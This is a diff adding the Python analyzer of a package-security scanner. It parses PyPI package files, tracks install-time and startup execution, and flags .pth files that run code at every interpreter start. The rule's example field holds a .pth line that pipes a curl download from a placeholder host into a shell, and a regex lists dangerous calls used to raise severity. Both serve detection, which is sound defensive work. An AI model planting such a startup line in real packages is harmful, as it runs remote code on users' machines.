@@ -1,0 +1,283 @@
+import type {
+  Analyzer,
+  ArtifactFile,
+  ExecutionContext,
+  Finding,
+  PackageContext,
+  RuleMeta,
+} from '../../core/types.js';
+import { rank } from '../../ecosystems/npm/contexts.js';
+import { ENCRYPTED_ENTRY } from '../../ecosystems/pypi/archive.js';
+import { importRoots, resolveModule } from '../../ecosystems/pypi/contexts.js';
+import { makeFinding } from '../../rules/finding.js';
+import { scanTextForIocs } from '../text/iocs.js';
+import { PyContext, type PyFinding, type PyRule, runPyRules } from './engine.js';
+import { METADATA_RULES, metadataFindings } from './metadata.js';
+import { type Node, parsePython } from './parser.js';
+import { py } from './rules/helpers.js';
+import { PY_RULES } from './rules/index.js';
+
+const MAX_DECODE_DEPTH = 4;
+
+export const UNPARSEABLE_PYTHON: RuleMeta = {
+  ...py,
+  id: 'PY-000',
+  name: 'unparseable-python',
+  category: 'obfuscation',
+  severity: 'low',
+  confidence: 'low',
+  description: 'A Python file could not be parsed (or only partly); text-level checks ran on it instead.',
+  rationale:
+    'Deliberately malformed files can break scanners while the interpreter (or a lenient older one) still runs them; at minimum the file was not fully analysed.',
+  falsePositives:
+    'Python 2-only files with syntax the grammar rejects, templates with placeholders, test fixtures of broken code.',
+  example: 'def f(:\n    exec(x)',
+  references: ['https://tree-sitter.github.io/tree-sitter/'],
+};
+
+export const PTH_EXEC: RuleMeta = {
+  ...py,
+  id: 'PY-016',
+  name: 'pth-executes-code',
+  category: 'persistence',
+  severity: 'medium',
+  confidence: 'medium',
+  description:
+    'A .pth file has lines starting with `import`: Python executes them at every interpreter start.',
+  rationale:
+    'site.py runs `import` lines of every .pth in site-packages on each start of Python, before any user code: a payload there runs forever, in every program, without being imported. The code on those lines is analysed as startup code.',
+  falsePositives:
+    'setuptools (distutils-precedence.pth), coverage, editable installs and virtualenv helpers use short import lines.',
+  example: 'evil.pth: import os; os.system("curl -s https://x.invalid | sh")',
+  references: ['https://docs.python.org/3/library/site.html'],
+};
+
+/** Whether a file is Python source to parse. */
+export function isPythonFile(file: ArtifactFile): boolean {
+  if (file.kind !== 'text') return false;
+  if (/\.(py|pyw|pyi)$/i.test(file.path)) return !file.path.endsWith('.pyi');
+  const head = file.data.subarray(0, 80).toString('latin1');
+  return head.startsWith('#!') && /python/.test(head);
+}
+
+export interface PyFileAnalysis {
+  path: string;
+  findings: PyFinding[];
+  imports: Array<{ module: string; level: number }>;
+  parsed: boolean;
+  loadCalled: Set<string>;
+  callsIn: Map<string, Set<string>>;
+  externalCalls: string[];
+}
+
+function decodeSource(data: Buffer): string {
+  const text = data.toString('utf8');
+  return text.replace(/^\uFEFF/, '');
+}
+
+/** Parses one Python source and runs every rule over it in a single walk. */
+export async function analyzePythonSource(
+  file: ArtifactFile,
+  source: string,
+  pkg: PackageContext,
+  context: ExecutionContext,
+  rules: PyRule[] = PY_RULES,
+): Promise<PyFileAnalysis> {
+  const parsed = await parsePython(source);
+  const out: PyFileAnalysis = {
+    path: file.path,
+    findings: [],
+    imports: [],
+    parsed: !!parsed.tree,
+    loadCalled: new Set(),
+    callsIn: new Map(),
+    externalCalls: [],
+  };
+  if (!parsed.tree || parsed.errorRatio > 0.02) {
+    const partial = !!parsed.tree && parsed.errorRatio < 0.5;
+    const f = makeFinding(UNPARSEABLE_PYTHON, {
+      file: file.path,
+      line: parsed.errorLine ?? 1,
+      context,
+      message: partial
+        ? `${file.path} has syntax errors (${Math.round(parsed.errorRatio * 100)}% of the file, first at line ${parsed.errorLine}); the rest was analysed and text-level checks also ran.`
+        : `${file.path} could not be parsed as Python; only text-level checks ran.`,
+      evidence: { errorRatio: parsed.errorRatio },
+    });
+    out.findings.push({ finding: f, loadTime: true, weak: true });
+    for (const t of scanTextForIocs(file.path, source, context))
+      out.findings.push({ finding: t, loadTime: true, weak: false });
+  }
+  if (!parsed.tree) return out;
+  try {
+    const ctx = new PyContext(file, source, pkg, context);
+    attachReanalysis(ctx, rules, pkg, 1);
+    runPyRules(parsed.tree.rootNode, rules, ctx);
+    await Promise.all(ctx.pending);
+    out.findings.push(...ctx.findings);
+    out.imports = ctx.facts.imports;
+    out.loadCalled = ctx.loadCalled;
+    out.callsIn = ctx.callsIn;
+    out.externalCalls = ctx.externalLoadCalls();
+  } finally {
+    parsed.tree.delete();
+  }
+  return out;
+}
+
+/** Lets rules hand decoded code back for analysis as code, up to a depth limit. */
+function attachReanalysis(ctx: PyContext, rules: PyRule[], pkg: PackageContext, depth: number): void {
+  if (depth > MAX_DECODE_DEPTH) return;
+  ctx.reanalyze = async (code: string, node: Node) => {
+    const parsed = await parsePython(code);
+    if (!parsed.tree) return;
+    try {
+      if (parsed.errorRatio > 0.05) return;
+      const origin = {
+        line: ctx.origin?.line ?? node.startPosition.row + 1,
+        column: ctx.origin?.column ?? node.startPosition.column + 1,
+        snippet: ctx.origin?.snippet ?? ctx.snippetOf(node),
+        loadTime: ctx.loadTime(),
+      };
+      const inner = new PyContext(ctx.file, code, pkg, ctx.fileContext, depth, origin);
+      attachReanalysis(inner, rules, pkg, depth + 1);
+      runPyRules(parsed.tree.rootNode, rules, inner);
+      await Promise.all(inner.pending);
+      ctx.findings.push(...inner.findings);
+    } finally {
+      parsed.tree.delete();
+    }
+  };
+}
+
+/** Code lines of a .pth file: those site.py executes (starting with `import`). */
+export function pthCode(text: string): Array<{ line: number; code: string }> {
+  const out: Array<{ line: number; code: string }> = [];
+  text.split(/\r?\n/).forEach((l, i) => {
+    if (/^import[ \t]/.test(l)) out.push({ line: i + 1, code: l });
+  });
+  return out;
+}
+
+/**
+ * Propagates execution contexts from entry points along the package's own imports, so a module
+ * imported by setup.py is install-time code and one imported by __init__.py is import-time code.
+ */
+export function propagatePythonContexts(
+  analyses: Map<string, PyFileAnalysis>,
+  entryPoints: Map<string, ExecutionContext>,
+): Map<string, ExecutionContext> {
+  const files = new Set(analyses.keys());
+  const roots = importRoots(files);
+  const result = new Map<string, ExecutionContext>();
+  const queue: Array<[string, ExecutionContext]> = [...entryPoints.entries()];
+  while (queue.length > 0) {
+    const [file, ctx] = queue.shift()!;
+    const current = result.get(file);
+    if (current && rank(current) >= rank(ctx)) continue;
+    result.set(file, ctx);
+    const analysis = analyses.get(file);
+    if (!analysis) continue;
+    for (const imp of analysis.imports) {
+      const target = resolveModule(imp.module, files, roots, file, imp.level);
+      if (target && target !== file) queue.push([target, ctx === 'startup' ? 'startup' : ctx]);
+    }
+  }
+  return result;
+}
+
+function closeCalls(analysis: PyFileAnalysis, external: Set<string>): Set<string> {
+  const closure = new Set(analysis.loadCalled);
+  for (const n of external)
+    if (analysis.callsIn.has(n) || analysis.findings.some((f) => f.stack?.includes(n))) closure.add(n);
+  const queue = [...closure];
+  while (queue.length > 0) {
+    const f = queue.pop()!;
+    for (const g of analysis.callsIn.get(f) ?? []) {
+      if (!closure.has(g)) {
+        closure.add(g);
+        queue.push(g);
+      }
+    }
+  }
+  return closure;
+}
+
+function finalContext(path: string, fileCtx: ExecutionContext, f: PyFinding): ExecutionContext {
+  if (path === 'setup.py') return 'install';
+  if (fileCtx === 'runtime' || fileCtx === 'unknown') return 'runtime';
+  return f.loadTime ? fileCtx : 'runtime';
+}
+
+export const pythonAnalyzer: Analyzer = {
+  id: 'python',
+  appliesTo: (artifact) =>
+    artifact.ecosystem === 'pypi' ||
+    artifact.files.some((f) => f.kind === 'text' && /\.(py|pth)$/i.test(f.path)),
+  async analyze(pkg) {
+    const analyses = new Map<string, PyFileAnalysis>();
+    const findings: Finding[] = [];
+    for (const file of pkg.artifact.files) {
+      if (!isPythonFile(file)) continue;
+      const ctx = pkg.contextOf(file.path);
+      analyses.set(file.path, await analyzePythonSource(file, decodeSource(file.data), pkg, ctx));
+    }
+    const contexts = propagatePythonContexts(analyses, pkg.entryPoints);
+    // Functions other load-time files call (`from .telemetry import register; @register`) run at load too.
+    const external = new Set<string>();
+    for (const [path, analysis] of analyses) {
+      const c = contexts.get(path) ?? pkg.contextOf(path);
+      if (c !== 'runtime' && c !== 'unknown') for (const n of analysis.externalCalls) external.add(n);
+    }
+    for (const [path, analysis] of analyses) {
+      const fileCtx = contexts.get(path) ?? pkg.contextOf(path);
+      const closure = closeCalls(analysis, external);
+      for (const f of analysis.findings) {
+        if (!f.loadTime && f.stack && f.stack.length > 0 && f.stack.every((n) => closure.has(n)))
+          f.loadTime = true;
+        const context = finalContext(path, fileCtx, f);
+        if (f.weak && context === 'runtime') continue;
+        f.finding.context = context;
+        findings.push(f.finding);
+      }
+    }
+    // .pth files: their import lines run at every interpreter start.
+    for (const file of pkg.artifact.files) {
+      if (!file.path.endsWith('.pth') || file.kind !== 'text') continue;
+      const lines = pthCode(file.data.toString('utf8'));
+      if (lines.length === 0) continue;
+      const code = lines.map((l) => l.code).join('\n');
+      findings.push(
+        makeFinding(PTH_EXEC, {
+          file: file.path,
+          line: lines[0]!.line,
+          snippet: lines[0]!.code,
+          context: 'startup',
+          severity:
+            code.length > 200 || /exec|eval|b64decode|system|urlopen|subprocess|socket/.test(code)
+              ? 'high'
+              : 'low',
+          message: `${file.path} runs code at every Python start: ${lines[0]!.code.slice(0, 120)}`,
+          evidence: { lines: lines.length },
+        }),
+      );
+      const analysis = await analyzePythonSource(file, code, pkg, 'startup');
+      for (const f of analysis.findings) {
+        if (f.finding.ruleId === 'PY-000') continue;
+        f.finding.context = 'startup';
+        if (f.finding.line !== undefined) f.finding.line = lines[f.finding.line - 1]?.line ?? f.finding.line;
+        findings.push(f.finding);
+      }
+    }
+    findings.push(...metadataFindings(pkg));
+    return findings;
+  },
+};
+
+export const PYTHON_RULE_METAS: RuleMeta[] = [
+  UNPARSEABLE_PYTHON,
+  PTH_EXEC,
+  ...PY_RULES.map((r) => r.meta).filter((m) => m.id.startsWith('PY-')),
+  ...METADATA_RULES,
+  ENCRYPTED_ENTRY,
+];
